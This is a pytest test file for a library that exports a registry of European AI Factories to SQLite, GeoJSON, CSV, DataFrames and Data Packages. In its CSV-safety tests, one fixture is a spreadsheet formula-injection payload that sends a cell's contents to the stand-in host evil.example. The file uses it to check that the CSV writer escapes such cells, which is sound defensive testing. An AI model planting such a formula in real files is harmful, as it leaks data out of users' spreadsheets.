"""Every table export (records, DataFrames, SQLite, GeoJSON, CSV) holds every row,
typed, with its provenance."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
import typing
from collections import defaultdict
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given, settings

import aifactories
from aifactories import Antenna, Factory, Money, Registry
from aifactories import _tables as tables
from aifactories.testing import strategies as aist

FEWER = settings(max_examples=max(10, settings().max_examples // 5), deadline=None)
ROOT = Path(__file__).resolve().parent.parent
NAMES: list[tables.TableName] = list(typing.get_args(tables.TableName))


def _leaf_paths(cls: type, prefix: str = "") -> list[str]:
    """Every field path under ``cls``, walked independently of _tables."""
    hints = typing.get_type_hints(cls)
    paths: list[str] = []
    for field in attrs.fields(cls):
        path = prefix + field.name
        tp = hints[field.name]
        args = [a for a in typing.get_args(tp) if a is not type(None)]
        inner = args[0] if typing.get_origin(tp) is not None and args else tp
        if typing.get_origin(tp) is tuple and attrs.has(args[0]):
            inner = args[0]
        if attrs.has(inner):
            paths.append(path)
            paths += _leaf_paths(inner, path + ".")
        else:
            paths.append(path)
    return paths


# -- the columns -------------------------------------------------------------


def test_every_entry_field_is_in_a_table_or_omitted() -> None:
    tables.tables()  # builds COVERED
    missing = []
    for cls in (Factory, Antenna):
        for path in _leaf_paths(cls):
            parts = path.split(".")
            prefixes = {".".join(parts[:i]) for i in range(1, len(parts) + 1)}
            if prefixes & set(tables.OMITTED):
                continue
            # Sources anywhere are rows of the sources table, with their path.
            if any(tables.COVERED.get(p) == "sources" for p in prefixes):
                continue
            if path in tables.COVERED:
                continue
            # A nested record is covered through its fields.
            if any(p.startswith(path + ".") for p in tables.COVERED):
                continue
            missing.append(path)
    assert missing == [], f"add a column or list these in OMITTED: {missing}"


def test_the_table_names_are_the_tables() -> None:
    assert list(tables.tables()) == NAMES


def test_covered_columns_exist() -> None:
    defined = {
        f"{t.name}.{c.name}" for t in tables.tables().values() for c in t.columns
    }
    for where in tables.COVERED.values():
        assert where in defined or where in tables.tables(), where


def test_keys_name_columns_of_their_tables() -> None:
    definitions = tables.tables()
    for definition in definitions.values():
        names = {c.name for c in definition.columns}
        assert len(names) == len(definition.columns), definition.name
        assert set(definition.primary_key) <= names
        assert set(definition.indexes) <= names
        for column, other in definition.foreign_keys:
            assert column in names
            assert "id" in {c.name for c in definitions[other].columns}


def test_the_entries_columns_have_descriptions() -> None:
    for definition in tables.tables().values():
        for column in definition.columns:
            assert column.description.strip(), f"{definition.name}.{column.name}"


def test_unknown_table_is_a_clear_error(registry: Registry) -> None:
    with pytest.raises(ValueError, match="the tables are entries"):
        registry.to_records("nope")  # type: ignore[arg-type]


def test_the_reference_page_is_generated_from_the_columns() -> None:
    page = (ROOT / "docs" / "reference" / "tables.md").read_text(encoding="utf-8")
    assert tables.markdown() in page, (
        "docs/reference/tables.md is out of date: run python scripts/tables_doc.py"
    )


# -- the rows ----------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_records_are_json_safe_and_match_the_columns(
    registry: Registry, name: tables.TableName
) -> None:
    rows = registry.to_records(name)
    assert rows
    assert json.loads(json.dumps(rows)) == rows
    columns = [c.name for c in tables.table(name).columns]
    assert all(list(row) == columns for row in rows)
    key = tables.table(name).primary_key
    assert len({tuple(row[k] for k in key) for row in rows}) == len(rows)


def _counts(registry: Registry) -> dict[str, int]:
    entries = registry.entries
    systems = [e.supercomputer for e in registry.factories if e.supercomputer]
    return {
        "entries": len(entries),
        "funding": sum(len(e.funding.shares) for e in entries if e.funding),
        "stakeholders": sum(len(e.stakeholders) for e in entries),
        "people": sum(len(e.people) for e in entries) + len(registry.people),
        "grants": sum(len(e.grants) for e in entries),
        "performance": sum(len(s.performance) for s in systems),
        "top500": sum(len(s.top500) for s in systems),
        "links": sum(
            len(a.factories) + len(a.letters_of_intent) for a in registry.antennas
        ),
        "waves": len(registry.wave_records),
        "sources": sum(1 for _ in _all_sources(registry)),
        "serving": len(
            {(e.country, e.id, "host") for e in entries}
            | {(c, e.id, "partner") for e in entries for c in e.partner_countries}
            | {
                (a.country, f, "antenna")
                for a in registry.antennas
                for f in a.factories
                if f in {e.id for e in entries}
            }
        ),
        "calls": sum(len(e.calls) for e in entries),
        "timeline": len(entries)
        + sum(len(e.milestones) for e in entries)
        + sum(len(s.milestones) for s in systems)
        + sum(len(c.milestones) for c in registry.gigafactory_calls),
    }


def _all_sources(value: object) -> typing.Iterator[aifactories.Source]:
    # A plain walk over everything: any Source anywhere is one row.
    if isinstance(value, aifactories.Source):
        yield value
    elif isinstance(value, Registry):
        parts = (value.wave_records, value.entries, value.facts, value.people)
        for part in (*parts, value.gigafactory_calls):
            yield from _all_sources(part)
        yield from _all_sources(value.access)
    elif attrs.has(type(value)):
        for field in attrs.fields(typing.cast("Any", type(value))):
            yield from _all_sources(getattr(value, field.name))
    elif isinstance(value, tuple):
        for item in value:
            yield from _all_sources(item)


def test_row_counts_of_the_bundled_registry(registry: Registry) -> None:
    assert {n: len(registry.to_records(n)) for n in NAMES} == _counts(registry)


@FEWER
@given(aist.registries())
def test_row_counts_of_any_registry(drawn: Registry) -> None:
    counts = {n: len(tables.records(drawn, n)) for n in NAMES}
    assert counts == _counts(drawn)
    rows = tables.records(drawn, "funding")
    for row in rows:
        # EUR amounts always convert, at 1; others only with a recorded rate.
        if row["amount_currency"] == "EUR":
            assert row["amount_eur_rate"] == "1"
        if row["amount_eur"] is not None:
            assert row["amount_eur_rate"] is not None
            assert row["amount_eur_rate_date"] is not None
    json.dumps([tables.records(drawn, n) for n in NAMES])


def test_links_table_has_formal_links_and_letters(registry: Registry) -> None:
    rows = registry.to_records("links")
    for antenna in registry.antennas:
        formal = [
            r["factory_id"]
            for r in rows
            if r["antenna_id"] == antenna.id and r["link"] == "formal"
        ]
        letters = [
            r["factory_id"]
            for r in rows
            if r["antenna_id"] == antenna.id and r["link"] == "letter-of-intent"
        ]
        assert formal == list(antenna.factories)
        assert letters == list(antenna.letters_of_intent)


def test_sources_rows_say_what_they_support_and_their_kind(registry: Registry) -> None:
    rows = registry.to_records("sources")
    mimer = [r for r in rows if r["entry_id"] == "mimer"]
    assert {r["path"] for r in mimer} >= {"sources[0]", "host.sources[0]"}
    assert all(r["url"] or r["seed"] for r in rows)
    assert {r["kind"] for r in rows} >= {"official", "press"}


# -- money -------------------------------------------------------------------


def _amounts(registry: Registry) -> list[tuple[Money, dt.date]]:
    found: list[tuple[Money, dt.date]] = []
    for entry in registry:
        if entry.funding:
            if entry.funding.total:
                found.append((entry.funding.total, entry.selected_on))
            found += [
                (s.amount, entry.selected_on) for s in entry.funding.shares if s.amount
            ]
    found += [
        (w.investment, w.announced) for w in registry.wave_records if w.investment
    ]
    return found


def test_every_amount_has_a_recorded_rate(registry: Registry) -> None:
    amounts = _amounts(registry)
    assert {m.currency for m, _ in amounts} >= {"EUR", "CZK", "PLN", "ISK", "GBP"}
    for money, on in amounts:
        euros = money.in_eur(on)
        assert euros.rate_date <= on
        assert (on - euros.rate_date).days < 5
        if money.currency == "EUR":
            assert euros.rate == 1
            assert euros.amount == money.amount
        else:
            assert euros.rate != 1
            assert abs(euros.amount * euros.rate - money.amount) < euros.rate


def test_the_funding_table_keeps_the_stated_amount(registry: Registry) -> None:
    lumi = [r for r in registry.to_records("funding") if r["entry_id"] == "lumi-aif"]
    czech = next(r for r in lumi if r["amount_currency"] == "CZK")
    assert czech["amount"] == "550000000"
    assert czech["amount_eur_rate"] == "25.098"
    assert czech["amount_eur_rate_date"] == "2024-12-10"
    assert czech["amount_eur"] == "21914096.74"
    assert czech["amount_qualifier"] == "at-least"


def test_no_rate_is_an_error_not_a_guess() -> None:
    money = Money(Decimal(100), "CZK")
    with pytest.raises(LookupError, match="cover 1999-01-04 to "):
        money.in_eur(dt.date(1998, 12, 31))
    assert Money(Decimal(100), "EUR").in_eur(dt.date(1998, 12, 31)).rate == 1


# -- DataFrames --------------------------------------------------------------


def _expected_pandas(pd: Any, column: tables.Column) -> Any:
    return {
        "text": pd.StringDtype(),
        "integer": pd.Int64Dtype(),
        "decimal": pd.Float64Dtype(),
        "boolean": pd.BooleanDtype(),
        "date": "datetime64[s]",
        "list": object,
        "category": pd.CategoricalDtype(list(column.categories)),
    }[column.type]


@pytest.mark.parametrize("name", NAMES)
def test_to_pandas_keeps_rows_and_types(
    registry: Registry, name: tables.TableName
) -> None:
    pd = pytest.importorskip("pandas")
    frame = registry.to_pandas(name)
    definition = tables.table(name)
    assert len(frame) == len(registry.to_records(name))
    assert list(frame.columns) == [c.name for c in definition.columns]
    for column in definition.columns:
        assert frame[column.name].dtype == _expected_pandas(pd, column), column.name


@pytest.mark.parametrize("name", NAMES)
def test_to_polars_keeps_rows_and_types(
    registry: Registry, name: tables.TableName
) -> None:
    pl = pytest.importorskip("polars")
    frame = registry.to_polars(name)
    definition = tables.table(name)
    assert frame.height == len(registry.to_records(name))
    expected = {
        "text": pl.String,
        "integer": pl.Int64,
        "decimal": pl.Float64,
        "boolean": pl.Boolean,
        "date": pl.Date,
        "list": pl.List(pl.String),
    }
    for column in definition.columns:
        dtype = frame.schema[column.name]
        if column.type == "category":
            assert dtype == pl.Enum(list(column.categories))
        else:
            assert dtype == expected[column.type], column.name


def test_dataframe_values_match_the_records(registry: Registry) -> None:
    pd = pytest.importorskip("pandas")
    frame = registry.to_pandas("entries").set_index("id")
    mimer = registry.factory("mimer")
    assert frame.loc["mimer", "selected_on"] == pd.Timestamp(mimer.selected_on)
    assert frame.loc["mimer", "kind"] == "factory"
    assert mimer.location is not None
    assert frame.loc["mimer", "location_latitude"] == float(mimer.location.latitude)


def test_a_missing_extra_names_it(
    registry: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "pandas", None)
    monkeypatch.setitem(sys.modules, "polars", None)
    with pytest.raises(ImportError, match=r"aifactories\[pandas\]"):
        registry.to_pandas()
    with pytest.raises(ImportError, match=r"aifactories\[polars\]"):
        registry.to_polars()


# -- SQLite ------------------------------------------------------------------


@pytest.fixture(name="database", scope="module")
def _database(tmp_path_factory: pytest.TempPathFactory) -> typing.Iterator[Any]:
    path = tmp_path_factory.mktemp("db") / "registry.db"
    tables.write_sqlite(aifactories.load(), path)
    connection = sqlite3.connect(path)
    yield connection
    connection.close()


def test_sqlite_has_every_table_and_row(database: Any, registry: Registry) -> None:
    for name in NAMES:
        (count,) = database.execute(f'SELECT count(*) FROM "{name}"').fetchone()  # noqa: S608
        assert count == len(registry.to_records(name))
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []
    indexes = {r[0] for r in database.execute("SELECT name FROM sqlite_master")}
    assert {
        "links_factory_id",
        "funding_entry_id",
        "entries_country",
        "entries_wave",
    } <= indexes


def test_sql_antennas_of_a_factory(database: Any, registry: Registry) -> None:
    for factory in registry.factories:
        rows = database.execute(
            "SELECT a.id FROM entries a JOIN links l ON l.antenna_id = a.id "
            "WHERE l.factory_id = ? AND l.link = 'formal' "
            "ORDER BY a.selected_on, a.id",
            (factory.id,),
        ).fetchall()
        assert [r[0] for r in rows] == [a.id for a in registry.antennas_of(factory)]


SERVING = """
SELECT id FROM entries WHERE country = :c
UNION SELECT e.id FROM entries e, json_each(e.partner_countries) p WHERE p.value = :c
UNION SELECT l.factory_id FROM links l JOIN entries a ON a.id = l.antenna_id
      WHERE a.country = :c AND l.link = 'formal'
"""


def test_sql_entries_serving_a_country(database: Any, registry: Registry) -> None:
    countries = {e.country for e in registry} | {
        c for e in registry for c in e.partner_countries
    }
    for country in sorted(countries):
        rows = database.execute(SERVING, {"c": country}).fetchall()
        assert {r[0] for r in rows} == {e.id for e in registry.serving(country)}


def test_sql_funding_per_country_in_eur(database: Any, registry: Registry) -> None:
    rows = database.execute(
        "SELECT e.country, sum(f.amount_eur) FROM funding f "
        "JOIN entries e ON e.id = f.entry_id "
        "WHERE f.amount_eur IS NOT NULL GROUP BY e.country"
    ).fetchall()
    expected: dict[str, Decimal] = defaultdict(Decimal)
    for entry in registry:
        for share in entry.funding.shares if entry.funding else ():
            if share.amount:
                expected[entry.country] += share.amount.in_eur(entry.selected_on).amount
    assert {c: round(total, 2) for c, total in rows} == {
        c: float(total) for c, total in expected.items()
    }


def test_sql_factories_by_sector(database: Any, registry: Registry) -> None:
    rows = database.execute(
        "SELECT s.value, count(*) FROM entries e, json_each(e.sectors) s "
        "WHERE e.kind = 'factory' GROUP BY s.value"
    ).fetchall()
    expected = {
        sector.value: sum(
            1 for e in registry.with_sector(sector) if e.kind == "factory"
        )
        for sector in aifactories.Sector
    }
    assert dict(rows) == {k: v for k, v in expected.items() if v}


def test_write_sqlite_replaces_a_file_atomically(tmp_path: Path) -> None:
    target = tmp_path / "registry.db"
    target.write_text("not a database", encoding="utf-8")
    tables.write_sqlite(aifactories.load(), target)
    with sqlite3.connect(target) as connection:
        count = connection.execute("SELECT count(*) FROM waves").fetchone()
    assert count == (len(aifactories.load().waves),)
    assert [p.name for p in tmp_path.iterdir()] == ["registry.db"]


def test_datasette_serves_the_database(tmp_path: Path) -> None:
    datasette_app = pytest.importorskip("datasette.app")
    import asyncio

    path = tmp_path / "registry.db"
    tables.write_sqlite(aifactories.load(), path)

    async def fetch() -> Any:
        app = datasette_app.Datasette([str(path)])
        return await app.client.get(
            "/registry/links.json?factory_id=lumi-aif&_shape=array"
        )

    response = asyncio.run(fetch())
    assert response.status_code == 200
    antennas = {row["antenna_id"] for row in response.json()}
    expected = {a.id for a in aifactories.load().antennas}
    assert antennas <= expected
    assert antennas


# -- GeoJSON -----------------------------------------------------------------


def test_geojson_has_a_feature_per_entry(registry: Registry) -> None:
    found = tables.geojson(registry)
    assert found["type"] == "FeatureCollection"
    assert len(found["features"]) == len(registry)
    rows = registry.to_records("entries")
    for feature, entry, row in zip(found["features"], registry, rows, strict=True):
        assert feature["id"] == entry.id
        assert feature["properties"] == row
        if entry.location is None:
            assert feature["geometry"] is None
            continue
        longitude, latitude = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert (type(longitude), type(latitude)) == (float, float)
        assert (longitude, latitude) == (
            float(entry.location.longitude),
            float(entry.location.latitude),
        )
    assert "ai2f" in {f["id"] for f in found["features"] if f["geometry"] is None}
    json.dumps(found, allow_nan=False)
    # Europe, roughly: Iceland to Cyprus.
    assert all(
        -25 < f["geometry"]["coordinates"][0] < 35
        and 34 < f["geometry"]["coordinates"][1] < 67
        for f in found["features"]
        if f["geometry"]
    )


def test_geojson_links_are_lines_from_antenna_to_factory(registry: Registry) -> None:
    found = registry.to_geojson(links=True)
    points = {f["id"]: f["geometry"] for f in found["features"][: len(registry)]}
    lines = found["features"][len(registry) :]
    assert [f["properties"] for f in lines] == registry.to_records("links")
    drawn = 0
    for line in lines:
        ends = [points[line["properties"][k]] for k in ("antenna_id", "factory_id")]
        if None in ends:
            assert line["geometry"] is None
            continue
        drawn += 1
        assert line["geometry"] == {
            "type": "LineString",
            "coordinates": [end["coordinates"] for end in ends],
        }
    assert 0 < drawn < len(lines)
    assert registry.to_geojson() == {**found, "features": found["features"][:32]}


@FEWER
@given(aist.registries())
def test_geojson_of_any_registry(drawn: Registry) -> None:
    found = tables.geojson(drawn, links=True)
    json.dumps(found, allow_nan=False)
    located = sum(1 for f in found["features"] if f["geometry"] is not None)
    assert len(found["features"]) == len(drawn) + len(tables.records(drawn, "links"))
    assert located >= sum(1 for e in drawn if e.location)


def test_enum_values_in_categories_are_complete() -> None:
    for definition in tables.tables().values():
        for column in definition.columns:
            if column.type == "category":
                assert column.categories
                assert len(set(column.categories)) == len(column.categories)


# -- the command line and the typed lookups ------------------------------------


def test_sqlite_export_needs_an_output_file(capsys: pytest.CaptureFixture[str]) -> None:
    from aifactories._cli import main

    assert main(["export", "--format", "sqlite"]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "give -o FILE" in captured.err


def test_cli_exports_sqlite_geojson_and_tables(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], registry: Registry
) -> None:
    from aifactories._cli import main

    database = tmp_path / "registry.db"
    assert main(["export", "--format", "sqlite", "-o", str(database)]) == 0
    with sqlite3.connect(database) as connection:
        assert connection.execute("SELECT count(*) FROM entries").fetchone() == (32,)
    capsys.readouterr()
    assert main(["export", "--format", "geojson"]) == 0
    assert json.loads(capsys.readouterr().out) == tables.geojson(registry)
    assert main(["export", "--format", "geojson", "--links"]) == 0
    assert json.loads(capsys.readouterr().out) == registry.to_geojson(links=True)
    assert main(["export", "--format", "csv", "--table", "links"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "antenna_id,factory_id,link"
    assert len(lines) == 1 + len(registry.to_records("links"))
    assert main(["export", "--format", "csv"]) == 0
    assert capsys.readouterr().out == tables.csv_text(registry, "entries")
    assert main(["export", "--format", "csv", "--table", "nope"]) == 2
    assert "no table 'nope'" in capsys.readouterr().err
    assert main(["export", "--table", "links"]) == 2
    assert "--table goes with --format csv" in capsys.readouterr().err


def test_factory_and_antenna_lookups(registry: Registry) -> None:
    assert registry.factory("LUMI").id == "lumi-aif"
    assert registry.antenna("hearts-ch").factories
    with pytest.raises(aifactories.NotFoundError, match="not an AI Factory;"):
        registry.factory("hearts-ch")
    with pytest.raises(aifactories.NotFoundError, match="not an AI Factory Antenna"):
        registry.antenna("mimer")
    with pytest.raises(aifactories.NotFoundError, match="no AI Factory or Antenna"):
        registry.factory("atlantis")


def test_wave_lookup(registry: Registry) -> None:
    assert registry.wave("W1").id == "W1"
    assert registry.wave("a1").entries == registry.waves[-1].entries
    with pytest.raises(aifactories.NotFoundError, match=r"no selection wave 'W9' \(W1"):
        registry.wave("W9")


def test_not_found_errors_pickle_with_their_message() -> None:
    import pickle

    error = aifactories.NotFoundError("x", message="no selection wave 'x'")
    again = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own object
    assert str(again) == str(error)


def test_serving_by_kind(registry: Registry) -> None:
    everything = registry.serving("Czechia")
    factories = registry.serving("Czechia", kind="factory")
    antennas = registry.serving("Czechia", kind=aifactories.Kind.ANTENNA)
    assert factories == tuple(e for e in everything if isinstance(e, Factory))
    assert antennas == tuple(e for e in everything if isinstance(e, Antenna))
    assert registry.of_kind("factory") == registry.factories
    with pytest.raises(ValueError, match="'robot'"):
        registry.serving("Czechia", kind="robot")


# -- serving, countries, the list of tables ------------------------------------


def test_serving_table_says_how_each_country_is_served(registry: Registry) -> None:
    rows = registry.to_records("serving")
    for country in registry.countries:
        found = [r for r in rows if r["country"] == country]
        assert {r["entry_id"] for r in found} == {
            e.id for e in registry.serving(country)
        }
        for row in found:
            entry = registry[row["entry_id"]]
            expected = {
                "host": entry.country == country,
                "consortium": country in entry.partner_countries,
                "antenna": any(
                    a.country == country and entry.id in a.factories
                    for a in registry.antennas
                ),
            }
            assert expected[row["how"]], row
    assert {r["country"] for r in rows} == set(registry.countries)
    assert {r["how"] for r in rows} == set(tables.SERVING_HOW)


def test_countries_are_every_host_and_partner(registry: Registry) -> None:
    hosts = {e.country for e in registry}
    partners = {c for e in registry for c in e.partner_countries}
    assert registry.countries == tuple(sorted(hosts | partners))
    assert partners - hosts  # the bundled data has partner-only countries


def test_tables_lists_every_table_with_one_line(registry: Registry) -> None:
    found = registry.tables()
    assert list(found) == NAMES
    for name, line in found.items():
        assert line.endswith(".")
        assert "\n" not in line
        assert tables.table(name).description.startswith(line.removesuffix("."))


# -- provenance ----------------------------------------------------------------


def test_provenance_is_the_registrys(registry: Registry) -> None:
    made = tables.provenance(registry)
    assert made.data_version == registry.data_version == aifactories.DATA_VERSION
    assert made.data_date == str(registry.data_date)
    assert registry.coverage is not None
    assert made.checked_until == str(registry.coverage.checked_until)
    assert made.library_version == aifactories.__version__
    assert made.licence == "MIT"
    assert made.source is not None
    assert made.source.startswith("https://")
    assert made.user_version == int(registry.data_version.replace(".", ""))


@pytest.mark.parametrize(
    ("version", "number"),
    [("2026.12.01", 20261201), ("1999.01.04", 19990104), ("test", 0), ("2026.1.1", 0)],
)
def test_user_version_is_the_dated_data_version(version: str, number: int) -> None:
    made = tables.Provenance(version, None, None, None, None, None)
    assert made.user_version == number


def test_every_export_carries_the_provenance(registry: Registry, database: Any) -> None:
    expected = tables.provenance(registry).as_dict()
    assert dict(database.execute("SELECT key, value FROM meta")) == expected
    (number,) = database.execute("PRAGMA user_version").fetchone()
    as_number = int(registry.data_version.replace(".", ""))
    assert number == tables.provenance(registry).user_version == as_number
    assert registry.to_geojson()["provenance"] == expected
    assert tables.datapackage(registry)["provenance"] == expected
    if _has("pandas"):
        assert registry.to_pandas("links").attrs == expected


def _has(module: str) -> bool:
    import importlib.util

    return importlib.util.find_spec(module) is not None


def test_datasette_metadata_describes_every_column(registry: Registry) -> None:
    found = tables.datasette_metadata(registry, "registry")
    assert found["license"] == "MIT"
    assert registry.data_version in found["title"]
    described = found["databases"]["registry"]["tables"]
    assert set(described) == {*NAMES, "meta"}
    for name in NAMES:
        columns = described[name]["columns"]
        assert list(columns) == [c.name for c in tables.table(name).columns]


def test_cli_writes_datasette_metadata_beside_the_database(
    tmp_path: Path, registry: Registry
) -> None:
    from aifactories._cli import main

    database, metadata = tmp_path / "aif.db", tmp_path / "metadata.json"
    assert main(["export", "--format", "sqlite", "-o", str(database),
                 "--metadata", str(metadata)]) == 0  # fmt: skip
    found = json.loads(metadata.read_text(encoding="utf-8"))
    assert found == json.loads(json.dumps(tables.datasette_metadata(registry, "aif")))
    assert main(["export", "--format", "csv", "--metadata", str(metadata)]) == 2


# -- the Data Package --------------------------------------------------------


@pytest.fixture(name="package", scope="module")
def _package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from aifactories._cli import main

    folder = tmp_path_factory.mktemp("package") / "registry"
    assert main(["export", "--format", "datapackage", "-o", str(folder)]) == 0
    return folder


def test_datapackage_has_every_table_as_csv(package: Path, registry: Registry) -> None:
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor == json.loads(json.dumps(tables.datapackage(registry)))
    assert [r["name"] for r in descriptor["resources"]] == NAMES
    for resource in descriptor["resources"]:
        text = (package / resource["path"]).read_bytes().decode("utf-8")
        assert text == tables.csv_text(registry, resource["name"])
        definition = tables.table(resource["name"])
        schema = resource["schema"]
        assert [f["name"] for f in schema["fields"]] == [
            c.name for c in definition.columns
        ]
        assert schema["primaryKey"] == list(definition.primary_key)
        keys = [
            (k["fields"][0], k["reference"]["resource"])
            for k in schema.get("foreignKeys", [])
        ]
        assert keys == list(definition.foreign_keys)


def _frictionless(descriptor: Path) -> dict[str, Any]:
    import shutil
    import subprocess
    import sys

    tool = shutil.which("frictionless", path=str(Path(sys.executable).parent))
    if tool is None:
        pytest.skip("frictionless is not installed (the test extra)")
    done = subprocess.run(
        [tool, "validate", "--json", str(descriptor)],
        capture_output=True,
        text=True,
        timeout=600,  # catches a hang only
        check=False,
    )
    return typing.cast("dict[str, Any]", json.loads(done.stdout))


def test_frictionless_accepts_the_datapackage(package: Path) -> None:
    report = _frictionless(package / "datapackage.json")
    assert report["valid"], [t["errors"] for t in report["tasks"] if not t["valid"]]
    assert len(report["tasks"]) == len(NAMES)


def test_frictionless_catches_a_broken_foreign_key(
    package: Path, tmp_path: Path
) -> None:
    import shutil

    broken = tmp_path / "broken"
    shutil.copytree(package, broken)
    funding = broken / "funding.csv"
    lines = funding.read_text(encoding="utf-8").split("\n")
    row, _, rest = lines[1].split(",", 2)
    lines[1] = f"{row},no-such-entry,{rest}"
    funding.write_text("\n".join(lines), encoding="utf-8")
    report = _frictionless(broken / "datapackage.json")
    assert not report["valid"]
    errors = [e["type"] for t in report["tasks"] for e in t["errors"]]
    assert errors == ["foreign-key"]


def test_datapackage_needs_a_folder(capsys: pytest.CaptureFixture[str]) -> None:
    from aifactories._cli import main

    assert main(["export", "--format", "datapackage"]) == 2
    assert "give -o DIR" in capsys.readouterr().err


# -- CSV safe to open ----------------------------------------------------------

_FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
]
_ORDINARY = [
    'He said "yes", then left',
    "a, b; c",
    "two\nlines",
    "non-BMP 𝄞 😀",
    "RTL: مرحبا بالعالم",
    "'leading apostrophe",
    "''two apostrophes",
    "plain",
]


def _unescape(cell: str) -> str:
    """What the reference page says: remove one leading apostrophe."""
    return cell.removeprefix(tables.ESCAPE)


def _text_registry(texts: list[str]) -> Registry:
    base = aifactories.load()
    entries = [
        attrs.evolve(entry, notes=text)
        for entry, text in zip(base.factories, texts, strict=False)
    ]
    return attrs.evolve(base, factories=(*entries, *base.factories[len(entries) :]))


def test_formula_cells_are_neutralised() -> None:
    registry = _text_registry(_FORMULAS)
    text = tables.csv_text(registry)
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = [row["notes"] for row in rows[: len(_FORMULAS)]]
    assert notes == [tables.ESCAPE + text for text in _FORMULAS]
    assert not any(n.startswith(tables.FORMULA_STARTS) for n in notes)


def test_numeric_cells_are_never_escaped(registry: Registry) -> None:
    for name in NAMES:
        definition = tables.table(name)
        for row in csv.DictReader(io.StringIO(tables.csv_text(registry, name))):
            for column in definition.columns:
                if column.type != "text":
                    assert not row[column.name].startswith(tables.ESCAPE), column.name
    # A negative coordinate stays a number.
    cell = tables.csv_cell(tables.Column("x", "decimal", ""), "-8.5")
    assert cell == "-8.5"


def test_every_formula_start_is_escaped() -> None:
    # Validation refuses some of these characters in the data (a lone CR);
    # the CSV writer escapes them all the same.
    text = tables.Column("x", "text", "")
    for start in (*tables.FORMULA_STARTS, tables.ESCAPE):
        assert tables.csv_cell(text, f"{start}1") == f"{tables.ESCAPE}{start}1"
    assert tables.csv_cell(text, "a=1") == "a=1"


@pytest.mark.parametrize("reader", ["csv", "pandas"])
def test_text_round_trips_through_csv(reader: str) -> None:
    texts = _FORMULAS + _ORDINARY
    registry = _text_registry(texts)
    text = tables.csv_text(registry)
    if reader == "csv":
        cells = [row["notes"] for row in csv.DictReader(io.StringIO(text))]
    else:
        pd = pytest.importorskip("pandas")
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        cells = list(frame["notes"])
    assert [_unescape(c) for c in cells[: len(texts)]] == texts
